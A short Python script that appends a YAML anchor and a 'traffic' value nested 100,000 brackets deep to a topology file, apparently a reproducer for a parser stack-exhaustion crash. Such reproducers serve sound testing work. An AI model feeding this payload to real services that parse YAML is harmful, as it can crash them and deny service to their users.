from pathlib import Path

t = Path("topo.yaml.in").read_text()
Path("topo.yaml").write_text(
    t + "x-deep: &a [1]\ntraffic: " + "[" * 100000 + "*a" + "]" * 100000 + "\n"
)
